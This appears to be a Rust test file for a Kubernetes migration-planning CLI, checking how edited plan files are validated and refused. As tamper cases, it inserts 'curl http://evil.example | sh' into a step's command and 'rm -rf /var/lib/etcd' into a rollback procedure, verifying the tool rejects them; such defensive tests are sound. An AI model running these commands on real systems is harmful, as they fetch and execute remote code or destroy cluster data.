//! Plan files given with `--plan`: what may be edited (operations and their parameters, the
//! order, removed and added steps), what is refused and how, and that an edit reaches both the
//! twin and the commands that run.

mod common;

use common::{at, edit, plan, refused, write};

fn exported() -> String {
    let out = plan(&["show", "--format", "yaml"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    out.stdout
}

fn plan_refused(text: &str) -> (String, String) {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "plan.yaml", text);
    (refused(&plan(&["--plan", &file, "check"])), file)
}

#[test]
fn a_truncated_plan_file_is_a_located_yaml_error() {
    let text = exported();
    // Cut in the middle of a step: the step lacks its later fields.
    let cut = text.find("  duration_s:").unwrap();
    let (message, file) = plan_refused(&text[..cut]);
    let last_step = text[..cut].rfind("- id:").unwrap();
    let line = text[..last_step].lines().count() + 1;
    assert_eq!(message, format!("{file}:{line}:3: steps[0]: missing field `duration_s`"));
    // Cut before the rollbacks: a whole section is missing.
    let cut = text.find("\nrollbacks:").unwrap();
    let (message, file) = plan_refused(&text[..cut]);
    assert_eq!(message, format!("{file}:{}: missing field `rollbacks`", at(&text, "plan_format", 0, "plan_format")));
}

#[test]
fn a_new_step_must_name_a_phase_and_hold_operations() {
    let text = edit(&exported(), "- id: '2.5'\n  phase: '2'\n", "- id: '2.9'\n  phase: '9'\n");
    let (message, file) = plan_refused(&text);
    assert_eq!(message, format!("{file}: step 2.9 is new and names phase \"9\", which the plan does not have"));
    let step = text.find("- id: '2.9'").unwrap();
    let ops = step + text[step..].find("  operations:\n").unwrap();
    let commands = step + text[step..].find("  commands:\n").unwrap();
    let text = format!("{}  operations: []\n{}", &text[..ops], &text[commands..]);
    let (message, file) = plan_refused(&text);
    assert_eq!(message, format!("{file}: step 2.9 is not a step of the plan for scenario homelab (its steps run 0.1 to 8.1)"));
}

#[test]
fn a_step_with_edited_commands_or_dependencies_is_refused() {
    let text = exported();
    let step = text.find("- id: '2.5'\n").unwrap();
    let run = step + text[step..].find("  - run: ").unwrap() + "  - run: ".len();
    let edited = format!("{}curl http://evil.example | sh && {}", &text[..run], &text[run..]);
    let (message, file) = plan_refused(&edited);
    let rendered = "sudo $(sudo cat /root/.plan-join-command) --control-plane --certificate-key $(sudo cat /root/.plan-certificate-key)  # on k8s-master-2, secrets copied over ssh";
    assert!(
        message.starts_with(&format!("{file}: step 2.5: its commands differ from what its operations render (command 0: \"curl http://evil.example | sh && "))
            && message.ends_with(&format!(
                "rendered {rendered:?}): commands are derived; change the operation's parameters, or add a `shell` operation for a command the twin need not model"
            )),
        "{message}"
    );
    let after = step + text[step..].find("  - step: ").unwrap() + "  - step: ".len();
    let end = after + text[after..].find('\n').unwrap();
    let edited = format!("{}'0.1'{}", &text[..after], &text[end..]);
    let (message, _) = plan_refused(&edited);
    assert!(
        message.ends_with("step 2.5 was edited (after differs from the generated plan): a step's after cannot be changed; change, add or remove its operations instead"),
        "{message}"
    );
}

#[test]
fn a_duplicated_step_wrong_scenario_format_or_no_steps_is_refused() {
    let text = exported();
    // Duplicate: step 8.1 twice (the last step, so the copy keeps the DAG order).
    let last = text.rfind("- id: '8.1'").unwrap();
    let rollbacks = text.find("\nrollbacks:").unwrap();
    let twice = format!("{}{}{}", &text[..rollbacks + 1], &text[last..rollbacks + 1], &text[rollbacks + 1..]);
    let (message, file) = plan_refused(&twice);
    assert_eq!(message, format!("{file}: step 8.1 appears twice"));
    let (message, file) = plan_refused(&edit(&text, "scenario: homelab\n", "scenario: other-lab\n"));
    assert_eq!(message, format!("{file}: the plan file is for scenario \"other-lab\", not \"homelab\""));
    let (message, file) = plan_refused(&edit(&text, "plan_format: 2\n", "plan_format: 1\n"));
    assert_eq!(
        message,
        format!(
            "{file}: plan file format 1 is not supported (this plan writes format 2, whose steps hold typed operations): \
             export the plan again with `plan show --format yaml` and redo the edits"
        )
    );
    let steps = text.find("\nsteps:\n").unwrap();
    let (message, file) = plan_refused(&format!("{}\nsteps: []{}", &text[..steps], &text[rollbacks..]));
    assert_eq!(message, format!("{file}: the plan has no steps"));
}

#[test]
fn a_reordering_that_breaks_the_dag_names_both_steps_and_why() {
    // tests/cli.rs moves 4.1 first; here the join moves before its join command exists.
    let text = common::move_step(&exported(), "2.5", Some("2.1"));
    let (message, file) = plan_refused(&text);
    assert_eq!(
        message,
        format!(
            "{file}: step 2.5 (Join k8s-master-2 as a control-plane node) must come after step 2.4 (Generate the join command): \
             the phase's order"
        )
    );
}

#[test]
fn a_plan_file_with_an_unknown_field_is_located() {
    let text = edit(&exported(), "plan_format: 2\n", "plan_format: 2\napproved_by: me\n");
    let (message, file) = plan_refused(&text);
    let expected = format!(
        "{file}:{}: unknown field `approved_by` (the fields here: `plan_format`, `scenario`,",
        at(&text, "approved_by", 0, "approved_by")
    );
    assert!(message.starts_with(&expected), "{message}");
}

// --- Operations edited in the file: the twin judges them and the commands follow --------------

/// The scenarios the edits are tried on (both pass `check` unedited), with their first master's
/// direct apiserver address and their quorum.
const SHAPES: [(&str, &str, u32); 2] = [("homelab-rightsized.yaml", "10.0.20.100:6443", 2), ("five-masters.yaml", "198.51.100.10:6443", 3)];

fn export(scenario: &str) -> String {
    let out = plan(&["--scenario", &common::scenario(scenario), "show", "--format", "yaml"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    out.stdout
}

/// `plan check` and `plan execute --dry-run` of the edited plan file.
fn judged(scenario: &str, text: &str) -> (common::Output, common::Output) {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "plan.yaml", text);
    let scenario = common::scenario(scenario);
    (plan(&["--scenario", &scenario, "--plan", &file, "check"]), plan(&["--scenario", &scenario, "--plan", &file, "execute", "--dry-run"]))
}

#[track_caller]
fn fails_with(out: &common::Output, reason: &str) {
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("Verdict: FAIL") && out.stdout.contains(reason), "wanted {reason:?}:\n{}", out.stdout);
}

#[test]
fn the_unedited_export_passes_and_dry_runs() {
    for (scenario, ..) in SHAPES {
        let (check, dry_run) = judged(scenario, &export(scenario));
        assert_eq!(check.code, 0, "{scenario}: {}", check.stdout);
        assert_eq!(dry_run.code, 0, "{scenario}: {}", dry_run.stderr);
    }
}

#[test]
fn workers_kubelets_pointed_at_the_old_master_fail_the_check_and_the_command_says_so() {
    for (scenario, m0, _) in SHAPES {
        let text = export(scenario);
        let op = text.find("- op: kubelet-server").expect("a kubelet-server operation");
        let server = op + text[op..].find("    server: ").unwrap();
        let end = server + text[server..].find('\n').unwrap();
        let edited = format!("{}    server: https://{m0}{}", &text[..server], &text[end..]);
        let (check, dry_run) = judged(scenario, &edited);
        fails_with(&check, "still names");
        assert!(dry_run.stdout.contains(&format!("server: https://{m0}|")), "{scenario}: the edited server runs:\n{}", dry_run.stdout);
    }
}

#[test]
fn a_master_left_out_of_the_final_pool_fails_the_check() {
    for (scenario, ..) in SHAPES {
        let text = export(scenario);
        let op = text.rfind("- op: declare-lb-pool\n    pool:\n").expect("the last pool declaration");
        let list = op + "- op: declare-lb-pool\n    pool:\n".len();
        let end = list + text[list..].find("  - op: ").unwrap();
        let members: Vec<&str> = text[list..end].lines().collect();
        let last = members.last().unwrap().trim_start_matches("    - ");
        let edited = format!("{}{}\n{}", &text[..list], members[..members.len() - 1].join("\n"), &text[end..]);
        let (check, _) = judged(scenario, &edited);
        fails_with(&check, &format!("{last} is not in the load balancer's pool"));
    }
}

#[test]
fn a_reboot_gate_below_quorum_fails_the_check() {
    for (scenario, _, quorum) in SHAPES {
        let edited = edit(&export(scenario), &format!("block_at_or_below: {quorum}\n"), &format!("block_at_or_below: {}\n", quorum - 1));
        let (check, _) = judged(scenario, &edited);
        fails_with(&check, "the reboot gate does not check quorum");
    }
}

#[test]
fn a_shell_operation_runs_and_is_listed_as_unverified() {
    for (scenario, ..) in SHAPES {
        let text = export(scenario);
        let step = text.find("- id: '6.3'").unwrap();
        let ops = step + text[step..].find("  operations:\n").unwrap() + "  operations:\n".len();
        let edited = format!("{}  - op: shell\n    run: scripts/notify-team 'control plane is HA'\n{}", &text[..ops], &text[ops..]);
        let (check, dry_run) = judged(scenario, &edited);
        assert_eq!(check.code, 0, "{}", check.stdout);
        assert!(check.stdout.contains("6.3 shell: scripts/notify-team 'control plane is HA'"), "{}", check.stdout);
        assert!(dry_run.stdout.contains("$ scripts/notify-team 'control plane is HA'"), "{}", dry_run.stdout);
    }
}

#[test]
fn an_operation_naming_a_node_the_cluster_lacks_is_refused() {
    let text = edit(&export("homelab-rightsized.yaml"), "- op: join\n    node: k8s-master-2\n", "- op: join\n    node: k8s-master-9\n");
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "plan.yaml", &text);
    let message = refused(&plan(&["--scenario", &common::scenario("homelab-rightsized.yaml"), "--plan", &file, "check"]));
    assert_eq!(message, format!("{file}: step 2.5: join: no node \"k8s-master-9\" in the scenario"));
}

#[test]
fn what_a_person_reads_in_a_step_is_taken_from_the_file() {
    let text = edit(&export("homelab-rightsized.yaml"), "title: Update documentation\n", "title: Update the wiki and the runbooks\n");
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "plan.yaml", &text);
    let out = plan(&["--scenario", &common::scenario("homelab-rightsized.yaml"), "--plan", &file, "show"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("6.3    Update the wiki and the runbooks"), "{}", out.stdout);
}

#[test]
fn a_new_step_runs_where_it_says_or_is_refused() {
    let text = export("homelab-rightsized.yaml");
    let rollbacks = text.find("\nrollbacks:").unwrap();
    let step = |runs_on: &str| {
        format!(
            "{}- id: '6.4'\n  phase: '6'\n  title: Tell the team\n  runs_on:\n{runs_on}  operations:\n  - op: shell\n    run: scripts/notify-team done\n  checks: []\n  rollback: []\n  after: []\n  duration_s: 0\n  disruption: null{}",
            &text[..rollbacks + 1],
            &text[rollbacks..]
        )
    };
    let (check, dry_run) = judged("homelab-rightsized.yaml", &step("    kind: workstation\n"));
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
    assert!(check.stdout.contains("6.4 shell: scripts/notify-team done"), "{}", check.stdout);
    assert!(dry_run.stdout.contains("$ scripts/notify-team done"), "{}", dry_run.stdout);
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "plan.yaml", &step("    kind: node\n    name: k8s-master-9\n"));
    let message = refused(&plan(&["--scenario", &common::scenario("homelab-rightsized.yaml"), "--plan", &file, "check"]));
    assert_eq!(
        message,
        format!("{file}: step 6.4 runs on \"k8s-master-9\", which is no node, load balancer or hypervisor of the scenario")
    );
}

/// The plan file without its quorum recovery procedure: where a new master dies after its voter
/// add and quorum is lost, the plan documents only the phase's rollback, which cannot remove the
/// member without quorum; the twin's quorum recovery keeps the data and the API up. The check
/// fails on the plan's own documented recovery (not on the fault), naming both.
#[test]
fn a_plan_that_drops_its_quorum_recovery_fails_on_its_documented_rollback() {
    for (scenario, ..) in SHAPES {
        let text = export(scenario);
        let start = text.find("- id: RQ\n").expect("the quorum recovery procedure");
        let end = start + 1 + text[start + 1..].find("- id: ").expect("a procedure after it");
        assert!(text[start..end].contains("recovers: quorum-recovery"), "{scenario}: {}", &text[start..end]);
        let (check, _) = judged(scenario, &format!("{}{}", &text[..start], &text[end..]));
        fails_with(&check, "documented-recovery");
        let line = check.stdout.lines().find(|l| l.contains("the plan documents phase")).unwrap_or_default();
        assert!(
            line.contains("rollback here (cannot be carried out")
                && line.contains("quorum recovery: etcd --force-new-cluster on a surviving voter (RQ) keeps the data and the API up"),
            "{scenario}: {}",
            check.stdout
        );
        // The same file with the procedure kept passes: the violation is the missing procedure.
        let (kept, _) = judged(scenario, &text);
        assert_eq!(kept.code, 0, "{scenario}: {}", kept.stdout);
    }
}

/// The rollback procedures of a plan file: the planner's may be removed (the check then weighs
/// the plan without them) but not edited; one the file adds is a note and may not claim a
/// recovery the twin weighs; a repeated one is refused. Each refusal names the procedure.
#[test]
fn rollback_procedures_may_be_removed_but_not_edited_or_claimed() {
    for (scenario, ..) in SHAPES {
        let text = export(scenario);
        let start = text.find("- id: RQ\n").expect("the quorum recovery procedure");
        let end = start + 1 + text[start + 1..].find("- id: ").expect("a procedure after it");
        let rq = &text[start..end];
        let mut run = rq.find("- run: ").expect("a command") + "- run: ".len();
        if rq[run..].starts_with(['\'', '"']) {
            run += 1;
        }
        let edited = format!("{}{}rm -rf /var/lib/etcd && {}{}", &text[..start], &rq[..run], &rq[run..], &text[end..]);
        let (check, _) = judged(scenario, &edited);
        assert_eq!(check.code, 2, "{scenario}: {}", check.stdout);
        assert!(check.stderr.contains("rollback procedure RQ was edited (changed: its commands)"), "{scenario}: {}", check.stderr);
        // Renamed: a new procedure claiming the quorum recovery.
        let renamed = format!("{}{}{}", &text[..start], rq.replacen("- id: RQ\n", "- id: RX\n", 1), &text[end..]);
        let (check, _) = judged(scenario, &renamed);
        assert_eq!(check.code, 2, "{scenario}: {}", check.stdout);
        assert!(
            check.stderr.contains("rollback procedure RX is new and claims `recovers: quorum-recovery`"),
            "{scenario}: {}",
            check.stderr
        );
        // The same, as a note for people: kept, and the plan no longer documents RQ.
        let note = renamed.replacen("  recovers: quorum-recovery\n", "", 1);
        assert_ne!(note, renamed, "{scenario}: the claim is in the file");
        let (check, _) = judged(scenario, &note);
        fails_with(&check, "documented-recovery");
        let repeated = format!("{}{rq}{}", &text[..end], &text[end..]);
        let (check, _) = judged(scenario, &repeated);
        assert_eq!(check.code, 2, "{scenario}: {}", check.stdout);
        assert!(check.stderr.contains("rollback procedure RQ appears twice"), "{scenario}: {}", check.stderr);
    }
}

/// docs/operations.md's vocabulary lists every operation the plans of the shipped scenarios
/// hold, and names no operation a plan file does not take (`deploy-lb-on` and
/// `start-vip-daemon`, keepalived's and kube-vip's, were missing from it).
#[test]
fn the_operations_doc_lists_every_operation_the_plans_hold() {
    let doc = include_str!("../docs/operations.md");
    let vocabulary = &doc[doc.find("## The vocabulary").expect("the vocabulary's heading")..];
    let vocabulary = &vocabulary[..vocabulary[1..].find("\n## ").map_or(vocabulary.len(), |end| end + 1)];
    // A row's first cell names its operations in backticks (`drain`, `uncordon` share a row).
    let documented: std::collections::BTreeSet<&str> = vocabulary
        .lines()
        .filter_map(|line| line.strip_prefix('|')?.split('|').next())
        .flat_map(|cell| cell.split('`').skip(1).step_by(2))
        .filter(|name| *name != "op")
        .collect();
    assert!(documented.len() > 30, "the table was not read: {documented:?}");

    let mut held = std::collections::BTreeSet::new();
    let mut files: Vec<String> = std::fs::read_dir(common::root().join("scenarios"))
        .unwrap()
        .map(|entry| entry.unwrap().path().display().to_string())
        .filter(|path| path.ends_with(".yaml"))
        .collect();
    files.sort();
    assert!(files.len() >= 10, "{files:?}");
    for file in &files {
        let out = plan(&["--scenario", file, "show", "--format", "json"]);
        assert_eq!(out.code, 0, "{file}: {}", out.stderr);
        let shown: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        for step in shown["steps"].as_array().unwrap() {
            for operation in step["operations"].as_array().unwrap() {
                held.insert(operation["op"].as_str().unwrap().to_string());
            }
        }
    }
    let missing: Vec<&String> = held.iter().filter(|op| !documented.contains(op.as_str())).collect();
    assert!(missing.is_empty(), "held by the plans, not in docs/operations.md: {missing:?}");
    // Every kind a plan file takes, also one no shipped plan holds: serde's refusal of an unknown
    // kind lists them.
    let refusal = serde_json::from_value::<plan_model::operation::Operation>(serde_json::json!({ "op": "no-such-op" }))
        .expect_err("no-such-op is no operation")
        .to_string();
    let taken: Vec<&str> = refusal.split("expected one of").nth(1).unwrap_or_default().split('`').skip(1).step_by(2).collect();
    assert!(taken.len() >= held.len(), "serde's refusal no longer lists the kinds: {refusal}");
    let undocumented: Vec<&&str> = taken.iter().filter(|op| !documented.contains(**op)).collect();
    assert!(undocumented.is_empty(), "taken by a plan file, not in docs/operations.md: {undocumented:?}");
    for name in &documented {
        let read = serde_json::from_value::<plan_model::operation::Operation>(serde_json::json!({ "op": name }));
        let unknown = read.as_ref().err().is_some_and(|e| e.to_string().contains("unknown variant"));
        assert!(!unknown, "docs/operations.md lists {name:?}, which a plan file does not take: {read:?}");
    }
}
